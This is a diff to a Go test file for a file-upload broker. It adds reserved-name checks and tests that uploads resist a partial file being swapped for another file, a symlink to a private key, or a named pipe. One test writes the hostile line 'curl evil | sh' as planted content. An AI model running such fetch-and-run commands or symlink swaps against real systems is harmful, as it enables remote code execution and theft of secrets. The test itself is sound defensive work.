@@ -12,6 +12,7 @@ import (
 	"slices"
 	"strings"
 	"sync/atomic"
+	"syscall"
 	"testing"
 	"time"
 
@@ -34,6 +35,12 @@ func TestCheckName(t *testing.T) {
 		{"a:b", "windows", false},
 		{"CON.txt", "windows", false},
 		{"con", "windows", false},
+		{"COM¹.txt", "windows", false}, // the superscript ports
+		{"LPT².log", "windows", false},
+		{"CONIN$", "windows", false},
+		{"conout$.txt", "windows", false},
+		{"COM0.txt", "windows", false},
+		{"COM10.txt", "windows", true},
 		{"trailing.", "windows", false},
 		{"trailing ", "windows", false},
 		{"what?.txt", "windows", false},
@@ -822,6 +829,27 @@ func TestLivePartialsSurviveAnotherSession(t *testing.T) {
 	}
 }
 
+// TestUploadNameTheDiskRefuses: a name the inbox's file system does not
+// take (a colon on a FAT USB stick, valid where the host runs) is refused
+// before any of the file is sent, in words that say to rename it, not
+// once all of it has arrived.
+func TestUploadNameTheDiskRefuses(t *testing.T) {
+	inbox := xtest.LinklessDisk(t)
+	_, broker := serve(t, Config{Root: inbox, Inbox: inbox}, func() bool { return true })
+	_, ask, _ := openFiles(t, broker)
+	r := ask(putOf("backup:2024.txt", []byte("the backup")))
+	if r.Type != protocol.FileError || r.Code != protocol.FileErrPath || !strings.Contains(r.Message, "does not take the name") || !strings.Contains(r.Message, "Rename the file") {
+		t.Fatalf("put of a name FAT refuses: %+v", r)
+	}
+	if ents, _ := os.ReadDir(inbox); len(ents) != 0 {
+		t.Errorf("the refused upload left %v", ents)
+	}
+	// A name it takes is still taken.
+	if r := ask(putOf("backup-2024.txt", []byte("the backup"))); r.Type != protocol.FileReady {
+		t.Fatalf("put of a name FAT takes: %+v", r)
+	}
+}
+
 // TestUploadWithoutHardLinks: on a file system without hard links (FAT on
 // a USB stick, some SMB shares) an upload is still saved once all of it
 // has arrived, and never over a file: the same name sent twice, with
@@ -957,5 +985,71 @@ func TestResumeNeverThroughReplacedPartial(t *testing.T) {
 			}
 			sendFrom(t, dc, answer, inbox, "tool.bin", data, 0)
 		})
+	}
+}
+
+// TestUploadSavesWhatWasWritten: the partial file's name replaced while
+// the upload arrives (by whoever else can write to the inbox), by another
+// file or a link to one of the user's, is not saved under the verified
+// name: the upload fails, and nothing of it is left under that name.
+func TestUploadSavesWhatWasWritten(t *testing.T) {
+	for _, swap := range []string{"file", "link"} {
+		t.Run(swap, func(t *testing.T) {
+			home := t.TempDir()
+			inbox := filepath.Join(home, "in")
+			secret := filepath.Join(home, ".ssh-id")
+			os.WriteFile(secret, []byte("PRIVATE KEY"), 0o600)
+			_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
+			dc, ask, answer := openFiles(t, broker)
+			data := bytes.Repeat([]byte("the technician's tool "), 12<<10)
+			if r := ask(putOf("tool.sh", data)); r.Type != protocol.FileReady {
+				t.Fatalf("put: %+v", r)
+			}
+			dc.Send(data[:64<<10])
+			partial := partialPath(inbox, data, 1)
+			waitSize(t, partial, 64<<10)
+			os.Remove(partial)
+			if swap == "file" {
+				os.WriteFile(partial, []byte("curl evil | sh\n"), 0o644)
+			} else {
+				os.Symlink(secret, partial)
+			}
+			for off := 64 << 10; off < len(data); off += 64 << 10 {
+				dc.Send(data[off:min(off+64<<10, len(data))])
+			}
+			if r := answer(); r.Type != protocol.FileError || !strings.Contains(r.Message, "was replaced by another file or a link") {
+				t.Errorf("the upload whose partial file was replaced: %+v", r)
+			}
+			if _, err := os.Lstat(filepath.Join(inbox, "tool.sh")); err == nil {
+				got, _ := os.ReadFile(filepath.Join(inbox, "tool.sh"))
+				t.Errorf("tool.sh saved with %q", got[:min(len(got), 40)])
+			}
+		})
+	}
+}
+
+// TestPartialNameTakenByAPipe: a pipe at the partial file's name (put
+// there by whoever else can write to the inbox) is not read as a partial
+// upload, which would wait for ever and hold up the channel: the upload
+// takes another name.
+func TestPartialNameTakenByAPipe(t *testing.T) {
+	home := t.TempDir()
+	inbox := filepath.Join(home, "in")
+	os.Mkdir(inbox, 0o755)
+	data := bytes.Repeat([]byte("tool"), 1000)
+	if err := syscall.Mkfifo(partialPath(inbox, data, 1), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
+	dc, ask, answer := openFiles(t, broker)
+	if r := ask(putOf("tool.bin", data)); r.Type != protocol.FileReady || r.Offset != 0 {
+		t.Fatalf("put beside a pipe: %+v", r)
+	}
+	dc.Send(data)
+	if r := answer(); r.Type != protocol.FileDone {
+		t.Fatalf("upload beside a pipe: %+v", r)
+	}
+	if got, err := os.ReadFile(filepath.Join(inbox, "tool.bin")); err != nil || !bytes.Equal(got, data) {
+		t.Errorf("tool.bin: %v, %d bytes", err, len(got))
 	}
 }
